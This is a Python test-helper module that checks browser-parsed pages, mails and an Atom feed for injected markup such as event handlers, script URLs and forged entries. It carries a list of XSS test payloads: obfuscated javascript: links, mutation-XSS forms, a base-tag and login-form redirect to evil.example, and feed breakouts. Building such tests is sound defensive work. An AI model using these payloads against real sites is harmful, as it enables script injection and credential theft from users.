"""What injected markup looks like once a browser has parsed a page.

The checks work on the parsed tree, not on the source text, so they judge
what would run, whatever sanitizer or escaping produced the page. Lexbor (through
selectolax) parses as browsers do, by the HTML standard's algorithm, in C: the
security tests parse well over a thousand pages, which html5lib, in Python,
took a third of their time for.
"""
from __future__ import annotations

import collections
import functools
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

from selectolax.lexbor import LexborHTMLParser, LexborNode

HERE = Path(__file__).resolve().parent

# Every element the app's own templates and the intro/outro sanitizer emit.
APP_TAGS = frozenset(
    """html head body title meta link script
    header nav main footer section article aside div span p br h1 h2 h3 h4 a em strong
    ul ol li dl dt dd blockquote pre mark del ins time table thead tbody tr th td
    form fieldset legend label input textarea select option button details summary""".split()
)
# Elements that would let injected text act (submit, navigate, load, style) if
# a payload produced more of them than the page has with harmless text.
ACTIVE_TAGS = frozenset(
    "a form input textarea select option button details summary link meta base script style iframe img title".split()
)
URL_ATTRIBUTES = frozenset(
    "href src action formaction xlink:href data background poster srcset cite longdesc dynsrc lowsrc ping".split()
)
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
_ATTRIBUTE_NAME = re.compile(r"^[a-z][a-z0-9_:.-]*$")


def payloads() -> list[str]:
    """The shared public list, one payload a line, and tricks that are not in it."""
    lines = (HERE / "xss_public.txt").read_text(encoding="utf-8").splitlines()
    return [line for line in lines if line.strip()] + EXTRA_PAYLOADS


# Not in the shared list: invisible and bidi characters in schemes, broken
# nesting, mutation-XSS shapes, XML breakouts for the feed, Markdown forms.
EXTRA_PAYLOADS = [
    '<a href="java\u200bscript:alert(1)">zero-width inside</a>',
    '<a href="\u202ejavascript:alert(1)">bidi override first</a>',
    '<a href="jav\u00adascript:alert(1)">soft hyphen</a>',
    '<a href="java\ufeffscript:alert(1)">byte order mark</a>',
    '<a href="java\u2060script:alert(1)">word joiner</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="java\tscript:alert(1)">raw tab</a>',
    '<a href="\x01javascript:alert(1)">raw control</a>',
    '<a href="javascript&#58;alert(1)">decimal colon</a>',
    '<a href="//evil.example/x">protocol-relative</a>',
    '<a href="https://ok.example/" onclick="alert(1)">fine link, bad handler</a>',
    '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">quote in url</a>',
    '<a title="&quot;><script>alert(1)</script>" href="https://ok.example/">title breakout</a>',
    "<<a href=javascript:alert(1)>double bracket</a>",
    "<a <a href=javascript:alert(1)>nested open</a>",
    "<p><em><strong>unclosed <a href=javascript:alert(1)>deep",
    "</p></div></blockquote></main><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!-- unclosed comment swallows the page",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>",
    "<template><script>alert(1)</script></template>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    "]]></content><script>alert(1)</script>",
    "</summary><entry><title>forged</title></entry>",
    "\x00<script>alert(1)</script>\x0b\x1f",
    "<textarea></textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "[click](<javascript:alert(1)>)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<https://ok.example/> <mailto:a@example.org>",
    "`<script>alert(1)</script>`",
    "    <script>indented code</script>",
    '<a href="mailto:someone@example.org?subject=<script>">mail</a>',
    "{{ 7*7 }} {%- if true %}jinja{% endif %} ${7*7} #{7*7}",
]


@functools.lru_cache(maxsize=16)
def parse(page: str) -> ElementTree.Element:
    """The page's <html> element as a browser builds it, as an ElementTree
    (comments as ElementTree comments, a template's content as its children);
    parsed once per page text, as callers only read the tree.

    Built with a stack, not by recursion: a payload may nest thousands deep."""
    document = LexborHTMLParser(page).root
    html = _element_of(document)
    open_elements = [(html, _children(document))]
    while open_elements:
        element, children = open_elements[-1]
        child = next(children, None)
        if child is None:
            open_elements.pop()
        elif child.is_text_node:
            text = child.text_content or ""
            if len(element):
                element[-1].tail = (element[-1].tail or "") + text
            else:
                element.text = (element.text or "") + text
        elif child.is_comment_node:
            element.append(ElementTree.Comment(child.comment_content or ""))
        elif child.is_element_node:
            inner = _element_of(child)
            element.append(inner)
            open_elements.append((inner, _children(child)))
    return html


def _element_of(node: LexborNode) -> ElementTree.Element:
    return ElementTree.Element(node.tag, {name: value or "" for name, value in node.attributes.items()})


def _children(node: LexborNode) -> Iterator[LexborNode]:
    yield from node.iter(include_text=True)
    if node.tag == "template":
        for fragment in node.template_fragments():
            yield from fragment.iter(include_text=True)


def _local(name: str) -> str:
    # namespaced attributes come back as {uri}name
    return name.rsplit("}", 1)[-1].lower() if name.startswith("{") else name.lower()


def _visible_url(value: str) -> str:
    # Browsers drop whitespace, controls and invisible characters inside a scheme.
    return "".join(
        c for c in value if not c.isspace() and ord(c) >= 32 and unicodedata.category(c) not in ("Cf", "Cc")
    ).lower()


def _mail_styles() -> frozenset[str]:
    templates = HERE.parent.parent / "templates" / "mail"
    return frozenset(
        style for path in templates.glob("*.html") for style in re.findall(r'style="([^"]*)"', path.read_text(encoding="utf-8"))
    )


def mail_problems(html: str) -> list[str]:
    """Mail clients ignore style sheets, so mails carry inline styles: only the
    ones written in templates/mail, never one from a payload."""
    allowed = _mail_styles()
    found = [p for p in problems(html, extra_tags=frozenset({"hr"}), inline_style=True)]
    for element in parse(html).iter():
        if isinstance(element.tag, str) and "style" in element.attrib and element.get("style") not in allowed:
            found.append(f"<{element.tag} style={element.get('style')!r:.60}> is not a style of the mail templates")
    return found


def problems(page: str, *, extra_tags: frozenset[str] = frozenset(), inline_style: bool = False) -> list[str]:
    """Everything in a parsed page that a payload could have put there to run."""
    found = []
    for element in parse(page).iter():
        if not isinstance(element.tag, str):
            found.append(f"comment in page: {element.text!r:.80}")
            continue
        tag = _local(element.tag)
        if tag not in APP_TAGS | extra_tags:
            found.append(f"<{tag}> is not an element the app makes")
        if tag == "script" and element.get("type") == "application/ld+json":
            pass  # structured data the app writes for search engines; browsers never run it
        elif tag == "script" and not (element.get("src") or "").startswith(("/static/js/", "/static/vendor/")):
            found.append(f"<script> that is not a file under /static/js or /static/vendor: {element.get('src')!r}")
        for raw_name, value in element.attrib.items():
            name = _local(raw_name)
            if not _ATTRIBUTE_NAME.match(name):
                found.append(f"<{tag}> has a broken attribute name {name!r}: an attribute breakout")
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r:.60}>")
            if name == "style" and not inline_style:
                found.append(f"<{tag} style=…>: inline style")
            if name in URL_ATTRIBUTES and _visible_url(value).startswith(_BAD_SCHEMES):
                found.append(f"<{tag} {name}={value!r:.60}>: script URL")
            if tag == "meta" and name == "http-equiv":
                found.append("<meta http-equiv>")
    return found


def active_tag_counts(page: str, ignore: frozenset[str] = frozenset()) -> collections.Counter:
    return collections.Counter(
        element.tag
        for element in parse(page).iter()
        if isinstance(element.tag, str) and element.tag in ACTIVE_TAGS - ignore
    )


def text_and_values(page: str) -> str:
    """The page's text as a reader sees it, and its form values: escaped
    payloads show up here whole."""
    root = parse(page)
    values = [v for element in root.iter() if isinstance(element.tag, str) for v in element.attrib.values()]
    return "".join(root.itertext()) + "\n" + "\n".join(values)


def feed_problems(feed: str) -> list[str]:
    """The Atom feed must stay well-formed XML; its HTML content gets the page checks."""
    root = ElementTree.fromstring(feed)  # raises on NUL, C0 controls or a breakout
    atom = "{http://www.w3.org/2005/Atom}"
    found = []
    for entry in root.iter(f"{atom}entry"):
        for content in entry.iter(f"{atom}content"):
            found += problems(content.text or "")
        if len(list(entry.iter(f"{atom}title"))) != 1:
            found.append("an entry has a forged title")
    return found
